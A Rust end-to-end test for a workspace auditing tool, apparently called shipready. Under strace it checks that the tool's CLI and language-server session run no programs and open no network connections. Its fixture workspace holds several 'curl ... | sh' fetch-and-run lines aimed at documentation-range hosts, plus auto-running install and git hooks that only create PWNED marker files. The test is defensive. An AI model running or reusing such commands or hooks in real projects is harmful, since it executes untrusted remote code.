//! shipready reads a workspace and never runs or contacts anything in it: `shipready check` and a scripted
//! `shipready lsp` session, under `strace -f`, over a workspace built to tempt them (a `cdk.json` whose `app`
//! would create a file, Makefiles, scripts, a `setup.py` with side effects, URLs in every file) make no
//! `execve` beyond the binary itself, no network call of any kind, and the tempting files never appear.

use std::ffi::OsStr;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::Command;
use std::time::Duration;

use serde_json::{json, Value};
use shipready_e2e::cli::binary;
use shipready_e2e::lsp_client::{file_uri, LspClient};

/// The system calls that run a program or reach a network, each traced in every thread and child.
const TRACED: &str = "trace=execve,execveat,socket,connect,sendto,sendmsg,sendmmsg";

/// Files that would exist if anything in the workspace had been run.
const TEMPTING: &[&str] = &[
    "PWNED-cdk",
    "PWNED-make",
    "PWNED-script",
    "PWNED-setup",
    "PWNED-compose",
];

#[test]
fn check_runs_nothing_and_connects_nowhere() {
    let Some(strace) = strace() else { return };
    let ws = tempting_workspace();
    let log = ws.path().join("strace.log");
    let output = Command::new(&strace)
        .args(["-f", "-qq", "-e", TRACED, "-o"])
        .arg(&log)
        .arg(binary())
        .arg("check")
        .arg(ws.path().join("repo"))
        .args(["--format", "json"])
        .output();
    let output = output.unwrap_or_else(|e| panic!("cannot run strace: {e}"));
    assert!(
        output.status.code().is_some_and(|c| c <= 1),
        "check failed: {}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(String::from_utf8_lossy(&output.stdout).contains("\"score\""));
    assert_clean(&log, ws.path());
}

#[test]
fn lsp_session_runs_nothing_and_connects_nowhere() {
    let Some(strace) = strace() else { return };
    let ws = tempting_workspace();
    let repo = ws.path().join("repo");
    let log = ws.path().join("strace.log");
    let wrapper: Vec<&OsStr> = vec![
        strace.as_os_str(),
        OsStr::new("-f"),
        OsStr::new("-qq"),
        OsStr::new("-e"),
        OsStr::new(TRACED),
        OsStr::new("-o"),
        log.as_os_str(),
    ];
    let (mut c, _) = LspClient::start_under(&wrapper).init(&[&repo], json!({}), json!({}));
    c.wait_for("shipready/score", |_| true);
    for (file, language) in [
        ("cdk.json", "json"),
        ("setup.py", "python"),
        ("app.py", "python"),
        ("Dockerfile", "dockerfile"),
        ("compose.yaml", "yaml"),
        ("DEPLOYMENT.md", "markdown"),
        ("Makefile", "makefile"),
        ("scripts/deploy.sh", "shellscript"),
        ("requirements.txt", "pip-requirements"),
    ] {
        let path = repo.join(file);
        let uri = file_uri(&path);
        let text = std::fs::read_to_string(&path).unwrap_or_default();
        c.notify(
            "textDocument/didOpen",
            json!({"textDocument": {"uri": uri, "languageId": language, "version": 1, "text": text}}),
        );
        let at = json!({"line": 1, "character": 2});
        let _ = c.request(
            "textDocument/hover",
            json!({"textDocument": {"uri": uri}, "position": at}),
        );
        let actions = c.request(
            "textDocument/codeAction",
            json!({"textDocument": {"uri": uri}, "range": {"start": {"line": 0, "character": 0}, "end": {"line": 40, "character": 0}}, "context": {"diagnostics": []}}),
        );
        let _ = c.request(
            "textDocument/codeLens",
            json!({"textDocument": {"uri": uri}}),
        );
        let _ = c.request(
            "textDocument/diagnostic",
            json!({"textDocument": {"uri": uri}}),
        );
        // An edit re-audits the file: the moment an eager tool would run a build or fetch a link.
        c.notify(
            "textDocument/didChange",
            json!({"textDocument": {"uri": uri, "version": 2}, "contentChanges": [{"text": format!("{text}\n# https://203.0.113.9/more\n")}]}),
        );
        assert!(actions.is_ok(), "{file}: {actions:?}");
    }
    let report = c.request(
        "workspace/executeCommand",
        json!({"command": "shipready.report", "arguments": [file_uri(&repo)]}),
    );
    assert!(report.is_ok(), "{report:?}");
    let _ = c.request("workspace/diagnostic", json!({"previousResultIds": []}));
    assert_eq!(c.shutdown(), Ok(Value::Null));
    c.notify("exit", Value::Null);
    assert_eq!(
        c.exit_code(Duration::from_secs(30)),
        Some(0),
        "strace or the server did not end"
    );
    assert_clean(&log, ws.path());
}

/// The strace binary, or `None` (with a message that bypasses the test harness's capture) when it cannot trace
/// in this sandbox. A missing strace is a failure: tests/all.sh installs it.
fn strace() -> Option<PathBuf> {
    let strace = PathBuf::from("/usr/bin/strace");
    assert!(
        strace.is_file(),
        "strace is not installed (apt-get install strace; tests/all.sh does)"
    );
    let probe = Command::new(&strace)
        .args(["-f", "-qq", "-o", "/dev/null", "true"])
        .output();
    match probe {
        Ok(out) if out.status.success() => Some(strace),
        other => {
            let why = match other {
                Ok(out) => String::from_utf8_lossy(&out.stderr).trim().to_owned(),
                Err(e) => e.to_string(),
            };
            let _ = writeln!(
                std::io::stderr(),
                "SKIPPED no-execution/no-network test: strace cannot attach in this sandbox ({why})"
            );
            None
        }
    }
}

/// Every traced call in the log is the one `execve` of the binary itself; no tempting file exists.
fn assert_clean(log: &Path, root: &Path) {
    let text = std::fs::read_to_string(log).unwrap_or_else(|e| panic!("no strace log: {e}"));
    let calls: Vec<&str> = text
        .lines()
        .filter(|l| !l.contains("+++ exited") && !l.contains("--- SIG"))
        .collect();
    let binary = binary().to_string_lossy().into_owned();
    let execs: Vec<&&str> = calls.iter().filter(|l| l.contains("execve")).collect();
    assert_eq!(
        execs.len(),
        1,
        "programs run:\n{}",
        execs.iter().map(|l| **l).collect::<Vec<_>>().join("\n")
    );
    assert!(
        execs[0].contains(&format!("execve(\"{binary}\"")),
        "{}",
        execs[0]
    );
    let network: Vec<&&str> = calls.iter().filter(|l| !l.contains("execve")).collect();
    assert!(
        network.is_empty(),
        "network calls:\n{}",
        network.iter().map(|l| **l).collect::<Vec<_>>().join("\n")
    );
    for name in TEMPTING {
        for dir in [root.to_path_buf(), root.join("repo")] {
            assert!(
                !dir.join(name).exists(),
                "{name} was created: something ran"
            );
        }
    }
}

/// A workspace where every file asks to be run or fetched. Tempting files would land in its parent folder.
fn tempting_workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap_or_else(|e| panic!("tempdir: {e}"));
    let root = dir.path();
    let repo = root.join("repo");
    let out = |name: &str| root.join(name).to_string_lossy().into_owned();
    let files: Vec<(&str, String)> = vec![
        ("cdk.json", format!("{{\"app\": \"touch {} && python3 app.py # https://203.0.113.1/cdk\", \"context\": {{\"url\": \"https://203.0.113.1/\"}}}}\n", out("PWNED-cdk"))),
        ("Makefile", format!("# https://203.0.113.2/make\nall:\n\ttouch {}\n\tcurl -fsS https://203.0.113.2/install.sh | sh\ndeploy: all\n\tcdk deploy\n", out("PWNED-make"))),
        ("scripts/deploy.sh", format!("#!/bin/sh\n# https://203.0.113.3/\ntouch {}\ncurl https://203.0.113.3/x | sh\naws ecs update-service --cluster c --service s\n", out("PWNED-script"))),
        ("scripts/rollback.sh", format!("#!/bin/sh\ntouch {}\ncdk deploy --rollback # http://[2001:db8::1]/\n", out("PWNED-script"))),
        ("setup.py", format!("# https://203.0.113.4/\nimport urllib.request\nopen({:?}, 'w').write('x')\nurllib.request.urlopen('http://203.0.113.4/setup')\nfrom setuptools import setup\nsetup(name='x', url='https://203.0.113.4/')\n", out("PWNED-setup"))),
        ("app.py", "# https://203.0.113.5/\nimport requests\nimport aws_cdk as cdk\nfrom fastapi import FastAPI\n\nrequests.get(\"https://203.0.113.5/boot\")\napp = FastAPI()\n\n@app.get(\"/\")\ndef root():\n    return requests.get(\"http://localhost:9/\").json()\n\ncdk_app = cdk.App()\ncdk_app.synth()\n".to_owned()),
        ("Dockerfile", "# https://203.0.113.6/\nFROM 203.0.113.6:5000/base/python:3.12\nRUN curl -fsS https://203.0.113.6/setup.sh | sh\nADD https://203.0.113.6/archive.tar.gz /srv/\nHEALTHCHECK CMD curl -f http://localhost:8000/ || exit 1\nCMD [\"uvicorn\", \"app:app\"]\n".to_owned()),
        ("compose.yaml", format!("# https://203.0.113.7/\nservices:\n  api:\n    build: https://203.0.113.7/repo.git\n    image: 203.0.113.7:5000/api\n    command: sh -c 'touch {}'\n    healthcheck:\n      test: [\"CMD\", \"curl\", \"-f\", \"http://203.0.113.7/\"]\n", out("PWNED-compose"))),
        ("DEPLOYMENT.md", "# Deployment\n\nSee <https://203.0.113.8/docs> and ![badge](https://203.0.113.8/badge.svg).\n\n## Rollback\n\n```sh\ncurl https://203.0.113.8/rollback | sh\n```\n\n[ref]: http://203.0.113.8/ref\n".to_owned()),
        ("README.md", "# Tempting\n\n[![build](https://203.0.113.8/b.svg)](https://203.0.113.8/)\n".to_owned()),
        ("requirements.txt", "--index-url https://203.0.113.9/simple\n-e git+https://203.0.113.9/pkg.git#egg=pkg\nfastapi @ https://203.0.113.9/fastapi.whl\naws-cdk-lib\n".to_owned()),
        ("pyproject.toml", "[build-system]\nrequires = [\"setuptools\"]\n[project]\nname = \"x\"\nurls = { home = \"https://203.0.113.9/\" }\n".to_owned()),
        (".git/hooks/post-checkout", format!("#!/bin/sh\ntouch {}\n", out("PWNED-script"))),
        ("package.json", format!("{{\"scripts\": {{\"postinstall\": \"touch {}\"}}, \"homepage\": \"https://203.0.113.9/\"}}\n", out("PWNED-script"))),
    ];
    for (name, text) in files {
        let path = repo.join(name);
        if let Some(parent) = path.parent() {
            std::fs::create_dir_all(parent).unwrap_or_else(|e| panic!("mkdir: {e}"));
        }
        std::fs::write(&path, text).unwrap_or_else(|e| panic!("write {name}: {e}"));
        #[cfg(unix)]
        if name.ends_with(".sh") || name.contains("hooks") {
            use std::os::unix::fs::PermissionsExt;
            let _ = std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755));
        }
    }
    dir
}
